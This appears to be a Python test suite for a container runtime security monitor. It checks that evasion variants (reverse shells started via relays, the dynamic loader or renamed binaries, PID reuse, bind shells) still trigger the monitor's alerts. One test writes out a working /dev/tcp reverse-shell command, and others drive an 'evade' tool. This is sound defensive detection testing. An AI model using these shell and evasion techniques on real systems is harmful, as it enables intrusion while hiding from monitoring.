#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Acts done plainly and in ways that hide them from who looks at system calls and their arguments, in a
runc container: each way raises the alert that the plain one does, of that very process and container.
"""

import pathlib
import shutil
import socket
import tempfile
import unittest

from evasions import RULES, SECRET, SHELLS, WAYS, WAYS_OF_VSOCK, matcher, script, status
from harness import TOOLS, Listener, wait_until
from watched import Watched

HERE = WAYS + WAYS_OF_VSOCK

# Another process has the connection: what the shell's standard input is instead. Of a terminal there is no alert: a
# program that gives a shell one is what each ssh server and each terminal is, and no event says that what comes over it
# came over the connection, too.
RELAYS = (("relay-pipe", "pipe"), ("relay-socketpair", "unix"), ("relay-terminal", None))


class Evasion(Watched):
    @classmethod
    def setUpClass(cls):
        cls.node = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-evasion-"))
        cls.addClassCleanup(shutil.rmtree, cls.node)
        (cls.node / "secret-a").write_text("secret\n")
        (cls.node / "secret-b").write_text("decoy\n")
        (cls.node / "soft").symlink_to("secret-a")
        (cls.node / "hard").hardlink_to(cls.node / "secret-a")
        cls.peer, cls.decoy = Listener(), Listener()
        for listener in (cls.peer, cls.decoy):
            listener.socket.listen(4096)
            cls.addClassCleanup(listener.close)
        rules = cls.node / "evasion.yaml"
        rules.write_text(RULES.format(inode=(cls.node / "secret-a").stat().st_ino, port=cls.peer.port))
        cls.extra_rules = (rules,)
        super().setUpClass()

    def test_every_way_raises_the_alert_of_the_plain_one(self):
        commands = [words.format(port=self.peer.port, decoy=self.decoy.port) for _, words in HERE]
        container = self.make_container("/bin/sh", "-c", script(commands), privileged=True, mounts={"/node": self.node})
        shutil.copy(TOOLS / "evade", container.rootfs / "bin" / "evil")
        code, printed = container.start().finish()
        self.assertEqual(code, 0, printed)
        for number, ((rule, _), command) in enumerate(zip(HERE, commands)):
            with self.subTest(command):
                self.assertIn(f"way {number} {status(command)}\n", printed)
                self.watch.wait_for(matcher(rule, command, container.id), f"{rule}: {command}")

    def expect_shell(self, container, port):
        self.watch.wait_for(lambda a: a["rule"] == "Reverse shell" and a["origin"] == container.id
                            and str(port) in a["output_fields"]["proc.stdin.name"], f"a shell on {port}")

    def test_every_way_to_put_a_shell_on_a_connection(self):
        attackers = [Listener() for _ in SHELLS]
        for attacker in attackers:
            self.addCleanup(attacker.close)
        container = self.container("/bin/sh", "-c", "".join(
            f"/bin/evade {way} {attacker.port}\n" for way, attacker in zip(SHELLS, attackers)))
        for way, attacker in zip(SHELLS, attackers):
            with self.subTest(way):
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                self.expect_shell(container, attacker.port)

    def test_shells_behind_relays(self):
        attackers = [Listener() for _ in RELAYS]
        for attacker in attackers:
            self.addCleanup(attacker.close)
        container = self.container("/bin/sh", "-c", "".join(
            f"/bin/evade {way} {attacker.port}\n" for (way, _), attacker in zip(RELAYS, attackers)))
        for (way, stdin), attacker in zip(RELAYS, attackers):
            with self.subTest(way):
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                if stdin is not None:
                    self.watch.wait_for(
                        lambda a: a["rule"] == "Shell takes its commands from a pipe" and a["origin"] == container.id
                        and a["output_fields"]["proc.stdin.type"] == stdin, way)

    def test_a_shell_that_the_loader_starts(self):
        attacker = Listener()
        self.addCleanup(attacker.close)
        container = self.container("/bin/evade", "shell-loaded", str(attacker.port), "/usr/bin/bash")
        self.assertIn("42", attacker.converse("echo $((6*7))")[0])
        self.expect_shell(container, attacker.port)

    def test_a_shell_that_the_loader_starts_with_options(self):
        attacker = Listener()
        self.addCleanup(attacker.close)
        loader = "/lib64/ld-linux-x86-64.so.2 --argv0 x --inhibit-cache /usr/bin/bash"
        container = self.container(
            "/usr/bin/bash", "-c", f"exec {loader} <>/dev/tcp/127.0.0.1/{attacker.port} >&0 2>&0")
        self.assertIn("42", attacker.converse("echo $((6*7))")[0])
        self.watch.wait_for(lambda a: a["rule"] == "Reverse shell" and a["origin"] == container.id
                            and "ld-linux" in a["output_fields"]["proc.exepath"], "a loader with options")

    def test_a_copy_of_a_shell_by_another_name(self):
        for parent, copied in ((), "bin/worker"), (("/bin/sh", "-c", '"$@"; true', "sh"), "tmp/worker"):
            with self.subTest(copied):
                attacker = Listener()
                self.addCleanup(attacker.close)
                command = "/bin/evade", "shell-renamed", str(attacker.port), f"/{copied}"
                container = self.make_container(*parent, *command)
                shutil.copy(shutil.which("bash"), container.rootfs / copied)
                container.start()
                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
                self.watch.wait_for(lambda a: a["rule"] == "Program started on a network connection"
                                    and a["origin"] == container.id, "a renamed shell")

    def test_a_pid_that_another_had_before(self):
        container = self.make_container("/bin/evade", "pid-reused", SECRET, privileged=True, host_pid=True,
                                        mounts={"/node": self.node})
        shutil.copy(TOOLS / "evade", container.rootfs / "bin" / "evil")
        code, printed = container.start().finish()
        self.assertEqual(code, 0, printed)
        before = self.watch.wait_for(
            lambda a: a["rule"] == "Executed" and a["origin"] == container.id, "who was before")[0]
        opened = self.watch.wait_for(
            lambda a: a["rule"] == "Opened by name" and a["origin"] == container.id, "who came after")[0]
        self.assertEqual(opened["output_fields"]["proc.pid"], before["output_fields"]["proc.pid"])
        self.assertIn("who-was-before", before["output_fields"]["proc.cmdline"])
        self.assertEqual(opened["output_fields"]["proc.cmdline"], f"evade pid-reused {SECRET}")

    def test_a_shell_that_listens(self):
        free = Listener()
        port = free.port
        free.close()
        container = self.container("/bin/evade", "shell-listen", str(port))

        def connected():
            try:
                return socket.create_connection(("127.0.0.1", port))
            except ConnectionRefusedError:
                return None

        with wait_until(connected, "the shell to listen") as peer:
            peer.sendall(b"exit\n")
            self.expect_shell(container, port)


if __name__ == "__main__":
    unittest.main(verbosity=2)
